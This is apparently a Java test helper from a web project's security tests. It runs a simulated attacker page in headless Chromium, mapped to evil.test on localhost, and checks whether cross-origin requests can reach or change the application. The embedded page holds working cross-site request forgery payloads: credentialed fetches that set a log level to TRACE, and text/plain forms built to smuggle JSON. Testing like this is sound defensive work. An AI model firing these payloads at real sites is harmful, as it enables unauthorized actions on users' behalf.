package io.windhover.security.web;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;

import com.sun.net.httpserver.HttpServer;
import io.windhover.execution.json.Json;
import io.windhover.system.BrowserProcesses;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A page of elsewhere in a real browser, which tries what such pages try and reports to
 * its own server what it got.
 */
final class Attacker implements AutoCloseable {

	private static final String PAGE = """
			<!doctype html><iframe name=sink></iframe><script>
			const targets = %s, before = %s, got = [];
			const note = (what, read) => got.push(what + ': ' + read);
			const post = async (url, mode, method, type) => {
			  const how = method + ' ' + mode + ' ' + type + ' ' + url;
			  try {
			    const answer = await fetch(url, {method, mode, credentials: 'include', signal: AbortSignal.timeout(15000),
			      headers: type ? {'Content-Type': type} : {},
			      body: method === 'GET' || method === 'HEAD' ? undefined : '{"configuredLevel": "TRACE"}'});
			    note(how, answer.type === 'opaque' ? 'opaque' : answer.status + ' ' + await answer.text());
			  } catch (e) { note(how, 'refused'); }
			};
			const element = (tag, attribute, url) => new Promise((resolve) => {
			  const one = document.createElement(tag);
			  one.onload = () => { note(tag + ' ' + url, 'loaded'); resolve(); };
			  one.onerror = () => { note(tag + ' ' + url, 'refused'); resolve(); };
			  // asked for a password, the browser waits for a person
			  setTimeout(() => { note(tag + ' ' + url, 'refused'); resolve(); }, 15000);
			  one[attribute] = url;
			  document.body.append(one);
			});
			const form = (url, enctype) => {
			  const one = document.createElement('form');
			  one.method = 'post'; one.enctype = enctype; one.action = url; one.target = 'sink';
			  const field = document.createElement('input');
			  field.name = '{"configuredLevel": "TRACE", "x": "'; field.value = '"}';
			  one.append(field); document.body.append(one);
			  return new Promise((resolve) => {
			    document.querySelector('iframe').onload = () => {
			      let read = 'refused';
			      try { read = document.querySelector('iframe').contentDocument.body.innerText; } catch (e) { }
			      note('form ' + enctype + ' ' + url, read || 'refused'); resolve();
			    };
			    setTimeout(resolve, 3000);
			    one.submit();
			  });
			};
			const isElsewhere = (other) => { try { return !other.document; } catch (e) { return true; } };
			onload = async () => {
			  for (const url of before) {
			    const other = open(url);
			    while (!isElsewhere(other)) { await new Promise((resolve) => setTimeout(resolve, 100)); }
			  }
			  for (const url of targets) {
			    await post(url, 'cors', 'GET', ''); await post(url, 'no-cors', 'GET', '');
			    await post(url, 'cors', 'POST', 'application/json'); await post(url, 'cors', 'POST', 'text/plain');
			    await post(url, 'no-cors', 'POST', 'text/plain'); await post(url, 'cors', 'PUT', 'application/yaml');
			    await post(url, 'cors', 'DELETE', '');
			    await element('img', 'src', url); await element('script', 'src', url);
			    await form(url, 'text/plain'); await form(url, 'application/x-www-form-urlencoded');
			  }
			  await fetch('/report', {method: 'POST', body: JSON.stringify(got)});
			};
			</script>
			""";

	private final BlockingQueue<String> reports = new LinkedBlockingQueue<>();

	private final HttpServer server;

	private final Path directory;

	/**
	 * Serves the page.
	 * @param before pages that its user sees first, such as those with name and password
	 */
	Attacker(Path directory, List<String> targets, List<String> before) throws IOException {
		this.directory = directory;
		this.server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
		byte[] page = PAGE
			.formatted(Json.mapper().writeValueAsString(targets), Json.mapper().writeValueAsString(before))
			.getBytes(StandardCharsets.UTF_8);
		this.server.createContext("/", (exchange) -> {
			boolean report = exchange.getRequestURI().getPath().equals("/report");
			if (report) {
				this.reports.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
			}
			exchange.getResponseHeaders().set("Content-Type", "text/html");
			exchange.sendResponseHeaders(200, report ? -1 : page.length);
			if (!report) {
				exchange.getResponseBody().write(page);
			}
			exchange.close();
		});
		this.server.start();
	}

	int port() {
		return this.server.getAddress().getPort();
	}

	/**
	 * Opens the page in Chromium, or skips the test where there is none.
	 * @return what the page could read or load
	 */
	List<String> attack(String host) throws IOException, InterruptedException {
		Process browser = start(this.directory, "chromium.log", "--remote-debugging-port=0",
				"http://" + host + ":" + port() + "/");
		try {
			String report = this.reports.poll(5, TimeUnit.MINUTES);
			if (report == null) {
				throw new IllegalStateException(
						"The page reported nothing:\n" + Files.readString(this.directory.resolve("chromium.err")));
			}
			List<String> got = new ArrayList<>();
			for (JsonNode each : Json.mapper().readTree(report)) {
				got.add(each.asString());
			}
			return got;
		}
		finally {
			BrowserProcesses.end(browser);
		}
	}

	/**
	 * What Chromium shows at a URL, which a page of that host could read.
	 */
	static String dump(Path directory, String url) throws IOException, InterruptedException {
		Process browser = start(directory, "page.html", "--dump-dom", url);
		try {
			assertThat(browser.waitFor(2, TimeUnit.MINUTES)).as("chromium ends").isTrue();
			return Files.readString(directory.resolve("page.html"));
		}
		finally {
			BrowserProcesses.end(browser);
		}
	}

	/** Starts Chromium, or skips the test where there is none. */
	private static Process start(Path directory, String output, String... arguments) throws IOException {
		List<String> command = new ArrayList<>(List.of(BrowserProcesses.chromium().toString(), "--headless",
				"--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
				"--disable-component-update", "--disable-sync", "--disable-popup-blocking",
				"--host-resolver-rules=MAP evil.test 127.0.0.1", "--user-data-dir=" + BrowserProcesses.profile()));
		command.addAll(List.of(arguments));
		return new ProcessBuilder(command).redirectError(directory.resolve("chromium.err").toFile())
			.redirectOutput(directory.resolve(output).toFile())
			.start();
	}

	@Override
	public void close() {
		this.server.stop(0);
	}

}
